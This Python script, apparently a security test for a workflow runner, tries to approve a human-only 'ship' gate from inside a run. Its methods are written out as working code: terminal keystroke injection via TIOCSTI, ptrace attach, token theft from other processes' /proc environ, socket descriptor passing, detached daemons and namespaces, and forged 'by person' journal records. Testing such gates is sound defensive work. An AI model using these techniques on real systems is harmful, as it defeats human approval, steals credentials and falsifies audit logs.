"""Tries to answer the gate `ship` of a run in the place of a person: `attack.py WAY`, from one of its processes.

What came of it is written to `WAY.txt`. A way that leaves the attempt's group, session or parent is waited for, so that
the attempt ends when it is over.
"""

import array
import ctypes
import fcntl
import glob
import json
import os
import pty
import socket
import subprocess
import sys
import termios
import time
import zlib

SWARMC, HOME = os.environ["SWARMC"], os.environ["RUNS_HOME"]
WORK = os.getcwd()
RUNNER = int(os.environ.get("RUNNER", os.getppid()))
WAY = sys.argv[1]


def run_folder():
    return max((path for path in glob.glob(f"{HOME}/runs/*") if os.path.isdir(path)), key=os.path.getmtime)


RUN = os.environ.get("TARGET") or os.path.basename(run_folder())
FOLDER = f"{HOME}/runs/{RUN}"
CLEAN = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/"), "SWARM_HOME": HOME}
APPROVE = [SWARMC, "approve", RUN, "ship", "yes"]
ORDER = 'answer {"gate":"ship","choice":"yes"}\n'


def say(text, way=WAY):
    draft = f"{WORK}/.{way}"
    with open(draft, "w") as file:
        file.write(str(text))
    os.rename(draft, f"{WORK}/{way}.txt")


def approve(environment=CLEAN, argv=APPROVE):
    done = subprocess.run(argv, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True, cwd="/")
    return f"exit {done.returncode}: {done.stdout}{done.stderr}"


def wait_for(condition, most=30):
    until = time.monotonic() + most
    while not condition() and time.monotonic() < until:
        time.sleep(0.02)


def told(way=WAY):
    wait_for(lambda: os.path.exists(f"{WORK}/{way}.txt"))


def detached(act, orphan_first=True):
    """Runs `act` in a process of another session, whose parents have ended; the way waits for it."""
    middle = os.fork()
    if middle == 0:
        os.setsid()
        parent = os.getpid()
        if os.fork() == 0:
            if orphan_first:
                wait_for(lambda: os.getppid() != parent)
            os.closerange(0, 256)
            os.chdir("/")
            try:
                say(act())
            except BaseException as problem:
                say(repr(problem))
            os._exit(0)
        os._exit(0)
    os.waitpid(middle, 0)
    told()


def connected():
    end = socket.socket(socket.AF_UNIX)
    os.chdir(FOLDER)
    end.connect("control.sock")
    return end


def order(end):
    end.sendall(ORDER.encode())
    return end.recv(4096).decode()


def cleared():
    say(approve())


def unmarked():
    """As the issue has it."""
    line = f"env -u SWARM_RUN setsid -f sh -c '{' '.join(APPROVE)} > .setsid 2>&1; mv .setsid unmarked.txt'"
    subprocess.run(["sh", "-c", line], env={**os.environ, "SWARM_HOME": HOME})
    told()


def background():
    """A child of the init process, as far as it can become one, without a session of its own."""
    line = f"( ( {' '.join(APPROVE)} > .background 2>&1; mv .background background.txt ) & ) &"
    subprocess.run(["sh", "-c", line], env=CLEAN)
    told()


def daemon():
    detached(approve)


def nested():
    """The orphan of an orphan of a runner that is killed."""
    inner = f"{WORK}/inner"
    os.mkdir(inner)
    with open(f"{inner}/inner.kdl", "w") as file:
        line = f"env -i SWARMC={SWARMC} RUNS_HOME={HOME} TARGET={RUN} RUNNER=$PPID PATH={CLEAN['PATH']} HOME={CLEAN['HOME']} "
        line += f"setsid -f sh -c 'cd {WORK} && exec python3 attack.py orphan'; kill -9 $PPID"
        file.write("workflow inner\npipeline p { task t { run #\"" + line + "\"# } }\n")
    subprocess.run([SWARMC, "run", f"{inner}/inner.kdl"], env={**CLEAN, "SWARM_HOME": inner}, capture_output=True)
    told("orphan")
    say("see orphan.txt")


def orphan():
    wait_for(lambda: not os.path.exists(f"/proc/{RUNNER}"))
    say(approve())


def hook():
    detached(approve)


def keystroke():
    """Types the answer at every terminal that can be opened: the controlling one, the runner's, and one that it makes its own."""
    said = []
    number = int(open(f"/proc/{RUNNER}/stat").read().rpartition(")")[2].split()[4])
    held = f"pts/{(number & 0xFF) | ((number >> 12) & 0xFFF00)}"
    if os.fork() == 0:
        os.setsid()
        for steal in (0, 1):
            try:
                terminal = os.open(f"/dev/{held}", os.O_RDWR | os.O_NOCTTY)
                fcntl.ioctl(terminal, termios.TIOCSCTTY, steal)
            except OSError:
                pass
        typed(f"/dev/{held}")
        os._exit(0)
    os.wait()
    for path in ("/dev/tty", f"/dev/{held}"):
        said.append(typed(path))
    for number in range(3):
        said.append(typed(f"/proc/{RUNNER}/fd/{number}"))
    say(said)


def typed(path):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for character in b"yes\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([character]))
        return f"{path}: typed"
    except OSError as problem:
        return f"{path}: {problem}"


def escapes():
    """What is written to the controlling terminal reaches what people see."""
    try:
        with open("/dev/tty", "wb", buffering=0) as terminal:
            terminal.write(b"\x1b]0;forged\x07FORGED")
        say("written")
    except OSError as problem:
        say(problem)


def memory():
    said = []
    for path in (f"/proc/{RUNNER}/mem", f"/proc/{RUNNER}/fd/0", f"/proc/{RUNNER}/environ"):
        try:
            said.append(f"{path}: {open(path, 'rb')}")
        except OSError as problem:
            said.append(f"{path}: {problem.strerror}")
    say("\n".join(said))


def traced():
    libc = ctypes.CDLL(None, use_errno=True)
    attach, seize = 16, 0x4206
    said = []
    for request in (attach, seize):
        traced = libc.ptrace(request, RUNNER, None, None)
        said.append("traced" if traced == 0 else os.strerror(ctypes.get_errno()))
    say(said)


def disguised():
    """With the marks and the tokens of other attempts, and of another run."""
    said = [approve({**CLEAN, "SWARM_RUN": "other", "SWARM_TASK": "finished", "SWARM_TOKEN": "0" * 64})]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            entries = [entry.split(b"=", 1) for entry in open(path, "rb").read().split(b"\0") if b"=" in entry]
            environment = {name.decode(): value.decode() for name, value in entries}
        except (OSError, UnicodeDecodeError):
            continue
        if environment.get("SWARM_RUN") == RUN:
            said.append(approve({**environment, **CLEAN}))
    say("\n".join(said))


def socketed():
    say(order(connected()))


def handed():
    """Who has connected ends, and another process holds the connection and speaks."""
    ours, theirs = socket.socketpair(socket.AF_UNIX)
    connecting = os.fork()
    if connecting == 0:
        end = connected()
        theirs.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [end.fileno()]))])
        os._exit(0)
    _, ancillary, _, _ = ours.recvmsg(1, socket.CMSG_SPACE(4))
    os.waitpid(connecting, 0)
    received = array.array("i")
    received.frombytes(ancillary[0][2])
    say(order(socket.socket(fileno=received[0])))


def reaper():
    """Below a process that adopts orphans itself, and ends."""
    ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
    detached(approve, orphan_first=True)


def terminal():
    """At a terminal of its own."""
    pid, end = pty.fork()
    if pid == 0:
        os.execve(SWARMC, APPROVE, CLEAN)
    said = b""
    try:
        while part := os.read(end, 4096):
            said += part
    except OSError:
        pass
    os.waitpid(pid, 0)
    say(said.decode())


def multiplexed():
    """By a server of terminals, which is a daemon."""
    line = f"{' '.join(APPROVE)} > {WORK}/.tmux 2>&1; mv {WORK}/.tmux {WORK}/multiplexed.txt"
    server = ["tmux", "-S", f"{WORK}/tmux.sock", "-f", "/dev/null"]
    try:
        subprocess.run([*server, "new-session", "-d", line], env={**CLEAN, "TERM": "xterm"}, check=True)
        told()
        subprocess.run([*server, "kill-server"], capture_output=True)
    except FileNotFoundError:
        terminal()


def namespaced():
    """In namespaces of its own, where it has another number and sees nobody else."""
    say(approve(argv=["unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount-proc", *APPROVE]) + approve())


def resumed():
    """Takes the run over, where nobody is to be asked."""
    say(approve(argv=[SWARMC, "resume", RUN, "--headless"]))


def journaled():
    """A record in the journal as the runner would write it: behind the last one, and at the very end."""
    path = f"{FOLDER}/journal.jsonl"
    whole = open(path, "rb").read()
    records = whole.rstrip(b"\0")
    last = json.loads(records.splitlines()[-1])
    body = json.dumps({
        "seq": last["seq"] + 1, "at": last["at"], "event": "gate_answered", "step": "ship/1/1", "choice": "yes",
        "output": '{"choice":"yes"}', "by": "person",
    }, separators=(",", ":"))[1:]
    sealed = '{"crc":"%08x",%s\n' % (zlib.crc32(body.encode()), body)
    with open(path, "r+b") as file:
        file.seek(len(records))
        file.write(sealed.encode())
        file.seek(0, os.SEEK_END)
        file.write(sealed.encode())
    say("written")


globals()[WAY]()
